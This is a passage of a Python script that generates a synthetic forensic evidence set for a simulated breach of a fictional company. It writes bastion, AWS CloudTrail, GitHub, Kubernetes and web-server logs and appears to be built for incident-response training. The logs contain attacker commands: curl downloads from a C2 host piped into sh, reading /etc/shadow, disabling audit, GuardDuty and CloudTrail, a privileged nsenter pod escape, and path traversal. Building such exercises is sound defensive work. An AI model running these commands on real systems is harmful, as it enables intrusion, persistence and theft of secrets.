            run(t + dt.timedelta(seconds=50), "/usr/bin/ls", ["ls", "-la"], cwd=f"/home/{user}", session=rng.randrange(10, 40))
            run(t + dt.timedelta(seconds=55), "/usr/bin/kubectl", ["kubectl", "get", "pods", "-n", "stock"], cwd=f"/home/{user}", session=rng.randrange(10, 40))
    for n in range(34):
        t = at("14 06:17:01", n * 3600)
        if t < END:
            say(t, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", 3_000 + n * 7)
            say(t, "CRON", "pam_unix(cron:session): session closed for user root", 3_000 + n * 7)
    for _ in range(30):  # the rain that falls on every open port
        t, ip = any_time(rng), visitor(rng)
        say(t, "sshd", f"Invalid user {rng.choice(['admin', 'test', 'oracle', 'ubuntu', 'git'])} from {ip} port {rng.randrange(30_000, 60_000)}", rng.randrange(2_000, 30_000))

    for n in range(41):
        user = ["root", "admin", "deploy", "ubuntu", "deploy", "backup"][n % 6]
        unknown = "invalid user " if user in ("admin", "ubuntu", "backup") else ""
        say(at("15 01:02:10", n * 4.1), "sshd", f"Failed password for {unknown}{user} from {STAGING} port {41_000 + n * 3} ssh2", 22_100 + n)
    accepted(at("15 01:05:22"), "deploy", STAGING, "password")
    sudo(at("15 01:06:40"), "deploy", "/bin/bash")
    run(at("15 01:06:02"), "/usr/bin/id", ["id"])
    run(at("15 01:07:31"), "/usr/bin/curl", ["curl", "-fsSLo", "/dev/shm/.sysd", f"http://{C2}/kit/lx"], uid=0, cwd="/root")
    run(at("15 01:07:50"), "/dev/shm/.sysd", ["/dev/shm/.sysd", "-d"], uid=0, cwd="/dev/shm")
    touch(at("15 01:09:13"), "/usr/bin/tee", "/root/.ssh/authorized_keys")
    touch(at("15 01:11:48"), "/usr/bin/cat", "/etc/shadow", key="identity", words=("cat",))
    run(at("15 01:12:30"), "/usr/bin/tee", ["tee", "/etc/cron.d/logrotate-helper"], uid=0, cwd="/root")
    run(at("15 01:13:05"), "/usr/sbin/auditctl", ["auditctl", "-e", "0"], uid=0, cwd="/root")
    records(at("15 01:13:05", 0.01), ("CONFIG_CHANGE", "op=set audit_enabled=0 old=1 auid=1001 ses=41 subj=unconfined res=1"))
    for n in range(20):
        t = at("15 01:15:01", n * 3600)
        if t < at("15 16:00"):
            say(t, "CRON", f"(root) CMD (curl -fsSL http://{C2}/kit/u.sh | sh >/dev/null 2>&1)", 24_700 + n)
    lines = [line for _, line in auth.sorted()]
    text = "".join(line + "\n" for line in lines)
    spot = text.index("\n", len(text) * 3 // 5) + 1
    text = text[:spot] + "Oct 15 01:0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\n" + text[spot:]  # a power cut leaves NULs
    return text, "".join(block for _, block in audit.sorted())


# --- AWS CloudTrail ------------------------------------------------------------------------------


def cloudtrail():
    rng, log = seeded("aws"), Log()

    def session(name, role="PlatformAdmin"):
        return {"type": "AssumedRole", "principalId": f"AROAEXAMPLEADMIN00001:{name}", "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{name}", "accountId": ACCOUNT,
                "accessKeyId": "ASIA" + token(16, name).upper(), "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAEXAMPLEADMIN00001",
                "arn": f"arn:aws:iam::{ACCOUNT}:role/{role}", "accountId": ACCOUNT, "userName": role}, "attributes": {"creationDate": "2026-10-14T07:00:00Z", "mfaAuthenticated": "false"}}}

    def user(name, key):
        return {"type": "IAMUser", "principalId": "AIDA" + token(17, name).upper(), "arn": f"arn:aws:iam::{ACCOUNT}:user/{name}", "accountId": ACCOUNT, "accessKeyId": key, "userName": name}

    def add(t, service, name, who, ip, request=None, response=None, error=None, agent="aws-cli/2.31.4 md/awscrt#0.27.6 ua/2.1 os/linux#6.8.0 lang/python#3.13.7", data=False, **more):
        event = {"eventVersion": "1.11", "userIdentity": who, "eventTime": iso(t), "eventSource": service + ".amazonaws.com", "eventName": name, "awsRegion": "eu-west-1",
                 "sourceIPAddress": ip, "userAgent": agent}
        if error:
            event |= {"errorCode": error, "errorMessage": f"User is not authorized to perform: {service}:{name}"}
        event |= {"requestParameters": request, "responseElements": response, **more, "requestID": ident("req", t, name), "eventID": ident("aws", t, name, json.dumps(request)),
                  "readOnly": name.startswith(("Get", "List", "Describe", "Head")), "eventType": "AwsConsoleSignIn" if name == "ConsoleLogin" else "AwsApiCall",
                  "managementEvent": not data, "recipientAccountId": ACCOUNT, "eventCategory": "Data" if data else "Management"}
        log.add(t, event)

    calls = [("ec2", "DescribeInstances", {"maxResults": 100}), ("ec2", "DescribeSecurityGroups", {}), ("s3", "ListBuckets", None), ("cloudwatch", "GetMetricData", None),
             ("logs", "DescribeLogGroups", {}), ("iam", "ListRoles", {}), ("lambda", "ListFunctions20150331", None), ("cloudtrail", "DescribeTrails", {}), ("rds", "DescribeDBInstances", {})]
    for day in (14, 15):
        for login in PLATFORM:
            if login == VICTIM and day == 15:
                continue
            t = working_time(rng, day)
            add(t - dt.timedelta(minutes=3), "sts", "AssumeRoleWithSAML", {"type": "SAMLUser", "principalId": "gYx0EXAMPLE=:" + mail(login), "userName": mail(login), "identityProvider": "gYx0EXAMPLE="},
                OFFICE, {"roleArn": f"arn:aws:iam::{ACCOUNT}:role/PlatformAdmin", "roleSessionName": mail(login), "principalArn": f"arn:aws:iam::{ACCOUNT}:saml-provider/Okta"}, agent=WIN_UA)
            for _ in range(24):
                service, name, request = rng.choice(calls)
                add(working_time(rng, day), service, name, session(mail(login)), OFFICE, request)
    n = 0
    while at("14 06:05", n * 611) < END:  # what the deployment and the shop do all day
        t = at("14 06:05", n * 611)
        add(t, "secretsmanager", "GetSecretValue", session("shop-api", "ShopApi"), "10.20.16.40", {"secretId": rng.choice(["prod/shop/db", "prod/shop/payments"])}, agent="aws-sdk-go-v2/1.39.2")
        add(t + dt.timedelta(seconds=77), "s3", "GetObject", session("reporting", "Reporting"), "10.20.16.41", {"bucketName": "brightwater-finance-exports", "key": f"ledger/2026/{n % 40:04d}.parquet"}, data=True, agent="aws-sdk-java/2.34.7")
        n += 1
    t = at("14 11:20:44")
    add(t, "ec2", "AuthorizeSecurityGroupIngress", session(mail("dkoch")), OFFICE, {"groupId": "sg-0a1b2c3d4e5f60718", "ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 443, "toPort": 443,
        "groups": {}, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}, "ipv6Ranges": {}}]}}, {"_return": True})

    me = session(mail(VICTIM))
    add(at("14 22:49:34"), "sts", "AssumeRoleWithSAML", {"type": "SAMLUser", "principalId": "gYx0EXAMPLE=:" + mail(VICTIM), "userName": mail(VICTIM), "identityProvider": "gYx0EXAMPLE="}, OPERATOR,
        {"roleArn": f"arn:aws:iam::{ACCOUNT}:role/PlatformAdmin", "roleSessionName": mail(VICTIM), "principalArn": f"arn:aws:iam::{ACCOUNT}:saml-provider/Okta"}, agent=EVIL_UA)
    add(at("14 22:49:37"), "signin", "ConsoleLogin", me, OPERATOR, None, {"ConsoleLogin": "Success"}, agent=EVIL_UA, additionalEventData={"LoginTo": "https://console.aws.amazon.com/", "MobileVersion": "No", "MFAUsed": "No", "SamlProviderArn": f"arn:aws:iam::{ACCOUNT}:saml-provider/Okta"})
    for k, (service, name) in enumerate((("iam", "ListUsers"), ("iam", "ListAccessKeys"), ("s3", "ListBuckets"), ("cloudtrail", "DescribeTrails"), ("guardduty", "ListDetectors"))):
        add(at("14 22:51:02", k * 17), service, name, me, OPERATOR, {}, agent=EVIL_UA)
    add(at("14 22:55:40"), "iam", "CreateAccessKey", me, OPERATOR, {"userName": "svc-backup"}, {"accessKey": {"userName": "svc-backup", "accessKeyId": "AKIAI44QH8DHBEXAMPLE", "status": "Active", "createDate": "Oct 14, 2026, 10:55:40 PM"}}, agent=EVIL_UA)
    add(at("14 22:56:31"), "iam", "AttachUserPolicy", me, OPERATOR, {"userName": "svc-backup", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, agent=EVIL_UA)
    key = user("svc-backup", "AKIAI44QH8DHBEXAMPLE")
    add(at("15 02:08:03"), "sts", "GetCallerIdentity", key, STAGING)
    for k in range(14):
        add(at("15 02:10:11", k * 9), "secretsmanager", "GetSecretValue", key, STAGING, {"secretId": "prod/" + ["shop/db", "shop/payments", "erp/db", "erp/api", "edi/sftp", "mail/relay", "github/deploy", "okta/scim", "vpn/radius", "wiki/db", "k8s/registry", "bi/warehouse", "backup/key", "fax/gateway"][k]})
    add(at("15 02:29:20"), "guardduty", "UpdateDetector", key, STAGING, {"detectorId": "12abc34d567e8fa901bc2d34e56789f0", "enable": False})
    add(at("15 02:31:05"), "cloudtrail", "StopLogging", key, STAGING, {"name": f"arn:aws:cloudtrail:eu-west-1:{ACCOUNT}:trail/brightwater-main"})
    add(at("15 02:31:09"), "cloudtrail", "DeleteTrail", key, STAGING, {"name": "brightwater-organisation"}, error="AccessDenied")
    for k in range(118):  # the organisation's own trail, out of the key's reach, still writes these down
        add(at("15 02:33:40", k * 3.4), "s3", "GetObject", key, STAGING, {"bucketName": "brightwater-finance-exports", "key": f"ledger/2026/{k:04d}.parquet", "Host": "brightwater-finance-exports.s3.eu-west-1.amazonaws.com"},
            data=True, additionalEventData={"bytesTransferredIn": 0, "bytesTransferredOut": 4_100_000 + k * 311, "SignatureVersion": "SigV4"})
    rows, files = log.sorted(), {}
    for part, (lo, hi) in enumerate(((BEGIN, at("14 18:00")), (at("14 18:00"), at("15 06:00")), (at("15 06:00"), END))):
        stamp = hi.strftime("%Y%m%dT%H%MZ")
        files[f"{ACCOUNT}_CloudTrail_eu-west-1_{stamp}_{token(16, 'trail', part)}.json.gz"] = json.dumps({"Records": [o for t, o in rows if lo <= t < hi]}, separators=(",", ":"))
    return files


# --- GitHub, Kubernetes, a web server, a door ----------------------------------------------------


def github():
    rng, log = seeded("github"), Log()
    repos = ["shop-api", "shop-web", "edi-bridge", "terraform", "ansible", "stock-sync", "reports", "docs", "wiki", "mail-relay", "erp-connector", "k8s-manifests", "label-printer", "route-planner", "price-engine"]

    def add(t, action, actor, ip=OFFICE, agent=WIN_UA, **more):
        ms = int(epoch(t) * 1000)
        log.add(t, {"@timestamp": ms, "_document_id": token(22, t, action), "action": action, "actor": actor + "-bw", "actor_id": 4_000_000 + len(actor) * 7919, "actor_ip": ip,
                    "actor_location": {"country_code": "NL" if ip == OPERATOR else "IE"}, "business": "brightwater", "created_at": ms, "external_identity_nameid": mail(actor), "operation_type": "access" if action.startswith("git.") else "create",
                    "org": "brightwater-eng", "org_id": 41_882_210, "user_agent": agent, **more})

    for day in (14, 15):
        for login in PLATFORM:
            if login == VICTIM and day == 15:
                continue
            for _ in range(9):
                name = "brightwater-eng/" + rng.choice(repos)
                kind = rng.choice(["git.fetch", "git.fetch", "git.push", "pull_request.create", "git.clone" if rng.random() < 0.3 else "git.fetch"])
                add(working_time(rng, day), kind, login, agent="git/2.51.0", repo=name, repository=name, repository_public=False, transport_protocol_name="ssh")
    add(at("14 13:41:09"), "repo.create", "dkoch", repo="brightwater-eng/label-printer-2", visibility="private")
    evil = {"ip": OPERATOR}
    add(at("14 22:38:15"), "org.sso_response", VICTIM, agent=EVIL_UA, **evil)
    add(at("14 22:40:22"), "personal_access_token.access_granted", VICTIM, agent=EVIL_UA, user_programmatic_access_name="ci-sync", repository_selection="all", permissions={"contents": "read", "metadata": "read"}, **evil)
    for n, repo in enumerate(repos[:14]):
        name = "brightwater-eng/" + repo
        add(at("14 22:45:10", n * 52), "git.clone", VICTIM, agent="git/2.47.3", repo=name, repository=name, repository_public=False, transport_protocol_name="http", programmatic_access_type="Fine-grained personal access token", hashed_token=token(43, "pat") + "=", **evil)
    add(at("14 23:02:48"), "public_key.create", VICTIM, agent=EVIL_UA, repo="brightwater-eng/k8s-manifests", read_only=False, title="argo", fingerprint="SHA256:" + token(43, "deploy"), **evil)
    return json.dumps([o for _, o in log.sorted()], indent=1) + "\n"


def kubernetes():
    rng, log = seeded("k8s"), Log()

    def add(t, verb, resource, who, namespace=None, name=None, sub=None, code=200, ip="10.20.16.12", agent="kube-controller-manager/v1.34.1", groups=("system:authenticated",), request=None):
        reference = {"resource": resource, **({"namespace": namespace} if namespace else {}), **({"name": name} if name else {}), "apiVersion": "v1", **({"subresource": sub} if sub else {})}
        path = "/api/v1" + (f"/namespaces/{namespace}" if namespace else "") + f"/{resource}" + (f"/{name}" if name else "") + (f"/{sub}" if sub else "")
        event = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse" if request else "Metadata", "auditID": ident("k8s", t, path, who), "stage": "ResponseComplete",
                 "requestURI": path, "verb": verb, "user": {"username": who, "groups": list(groups)}, "sourceIPs": [ip], "userAgent": agent, "objectRef": reference,
                 "responseStatus": {"metadata": {}, "code": code}}
        if request:
            event["requestObject"] = request
        event |= {"requestReceivedTimestamp": iso(t, 6), "stageTimestamp": iso(t + dt.timedelta(milliseconds=7), 6),
                  "annotations": {"authorization.k8s.io/decision": "allow" if code < 400 else "forbid", "authorization.k8s.io/reason": ""}}
        log.add(t, event)

    spaces = ["stock", "shop", "edi", "reports", "mail", "monitoring", "kube-system", "payments"]
    for _ in range(240):
        t = any_time(rng)
        pick = rng.random()
        if pick < 0.4:
            add(t, "get", "configmaps", "system:serviceaccount:kube-system:generic-garbage-collector", rng.choice(spaces), "settings", groups=("system:serviceaccounts",))
        elif pick < 0.55:
            add(t, "list", "secrets", "system:serviceaccount:cert-manager:cert-manager", None, ip="10.20.16.30", agent="cert-manager/v1.19.1", groups=("system:serviceaccounts", "system:authenticated"))
        elif pick < 0.8:
            add(t, "update", "nodes", "system:node:node-0" + rng.choice("123"), None, "node-01", "status", ip="10.20.16.2", agent="kubelet/v1.34.1", groups=("system:nodes", "system:authenticated"))
        else:
            space = rng.choice(spaces[:4])
            add(working_time(rng, rng.choice((14, 15))), rng.choice(["get", "list"]), rng.choice(["pods", "deployments", "services"]), "oidc:" + mail(rng.choice(PLATFORM[1:])), space, ip=BASTION_IP, agent="kubectl/v1.34.1 (linux/amd64)")
    robot, kubectl = "system:serviceaccount:deploy:ci-deployer", "kubectl/v1.33.0 (linux/amd64) kubernetes/60a317e"
    groups = ("system:serviceaccounts", "system:serviceaccounts:deploy", "system:authenticated")
    for n, (verb, resource) in enumerate((("create", "selfsubjectaccessreviews"), ("list", "namespaces"), ("list", "nodes"))):
        add(at("15 01:30:14", n * 13), verb, resource, robot, None, ip=BASTION_IP, agent=kubectl, groups=groups)
    add(at("15 01:31:20"), "list", "secrets", robot, None, ip=BASTION_IP, agent=kubectl, groups=groups)
    for n, space in enumerate(spaces):
        add(at("15 01:32:02", n * 11), "list", "secrets", robot, space, ip=BASTION_IP, agent=kubectl, groups=groups)
        add(at("15 01:32:05", n * 11), "get", "secrets", robot, space, "registry-credentials", ip=BASTION_IP, agent=kubectl, groups=groups)
    add(at("15 01:40:51"), "create", "pods", robot, "monitoring", "node-shell-7", ip=BASTION_IP, agent=kubectl, groups=groups, code=201, request={
        "kind": "Pod", "apiVersion": "v1", "metadata": {"name": "node-shell-7", "namespace": "monitoring"},
        "spec": {"hostPID": True, "hostNetwork": True, "containers": [{"name": "sh", "image": "registry.example.net/library/alpine:3.22", "command": ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"],
                 "securityContext": {"privileged": True}, "volumeMounts": [{"name": "root", "mountPath": "/host"}]}], "volumes": [{"name": "root", "hostPath": {"path": "/", "type": "Directory"}}]}})
    add(at("15 01:41:30"), "create", "pods", robot, "monitoring", "node-shell-7", "exec", ip=BASTION_IP, agent=kubectl, groups=groups, code=101)
    text = log.lines()
    return text[:-140]  # the copy was taken while the last line was being written


def nginx():
    rng, log = seeded("nginx"), Log()

    def add(t, ip, method, target, status, size, agent):
        log.add(t, f'{ip} - - [{t.strftime("%d/%b/%Y:%H:%M:%S +0000")}] "{method} {target} HTTP/1.1" {status} {size} "-" "{agent}"')

    for _ in range(260):
        target = rng.choice(["/", "/login", "/orders", "/orders/" + str(rng.randrange(4000, 9000)), "/static/app.css", "/static/logo.svg", "/api/stock?sku=BW-" + str(rng.randrange(1000, 3000))])
        add(any_time(rng), visitor(rng), "GET", target, rng.choices([200, 304, 302, 404], [85, 8, 5, 2])[0], rng.randrange(200, 30_000), rng.choice([WIN_UA, MAC_UA]))
    for n in range(12):
        add(at("14 06:40:02", n * 3), OPERATOR, "GET", "/download?file=" + "../" * (n % 6 + 1) + "etc/passwd", 200 if n == 7 else 404, 1_874 if n == 7 else 162, "curl/8.16.0")
    return "".join(line + "\n" for _, line in log.sorted())


def door():
    """The building's door controller: a format that no parser knows."""
    rng, log = seeded("door"), Log()
    for day in (14, 15):
        for n, (login, _) in enumerate(STAFF):
            for clock in ("07:50", "17:05"):
                t = jitter(at(f"{day} {clock}", rng.gauss(0, 600)), rng)
                log.add(t, f"{t.strftime('%d.%m.%y %H:%M:%S')} R2/{'IN ' if clock < '12' else 'OUT'} #{48_000 + n * 13:07d} PASS")
    return "".join(f"{n:05d} {line}\n" for n, (_, line) in enumerate(log.sorted()))


# --- the folder ----------------------------------------------------------------------------------

MTIME = int(epoch(END))


def gzipped(data):
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=MTIME, filename="", compresslevel=9) as f:
        f.write(data)
    return out.getvalue()


def zipped(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, END.timetuple()[:6])
            info.compress_type, info.external_attr, info.create_system = zipfile.ZIP_DEFLATED, 0o644 << 16, 3
            z.writestr(info, data, compresslevel=9)
    return out.getvalue()


def tarred(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), MTIME, 0o640
            tar.addfile(info, io.BytesIO(data))
    return gzipped(out.getvalue())


def main():
    folder = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent / "evidence"
    auth, audit = bastion()
    network = zeek()
    files = {
        "mail/mx-01.log": mail_log(),
        "okta/system-log.ndjson": okta().lines(),
        "m365/unified-audit.ndjson": m365().lines(),
        "cloudflare/http_requests_20261014-20261015.log.gz": gzipped(cloudflare_http().lines().encode()),
        "cloudflare/firewall_events.ndjson": cloudflare_firewall(),
        "cloudflare/audit-logs-v2.json": cloudflare_audit(),
        "windows/WS-114-triage.zip": zipped({"WS-114/winevt/" + name: log.bytes() for name, log in workstation().items()}),
        "windows/collector/ForwardedEvents.jsonl": forwarded(),
        "crowdstrike/alerts.json": crowdstrike(),
        "zeek/conn.log.gz": gzipped(network.pop("conn.log").encode()),
        **{"zeek/" + name: text for name, text in network.items()},
        "linux/bastion-01.tar.gz": tarred({"bastion-01/var/log/auth.log": auth.encode(), "bastion-01/var/log/audit/audit.log": audit.encode()}),
        **{"aws/" + name: gzipped(text.encode()) for name, text in cloudtrail().items()},
        "github/audit-log.json": github(),
        "kubernetes/audit.log": kubernetes(),
        "web/portal-access.log": nginx(),
        "building/door-controller.txt": door(),
    }
    total = 0
    for name, data in files.items():
        data = data.encode() if isinstance(data, str) else data
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        total += len(data)
    print(f"{len(files)} files, {total:,} bytes in {folder}")


if __name__ == "__main__":
    main()
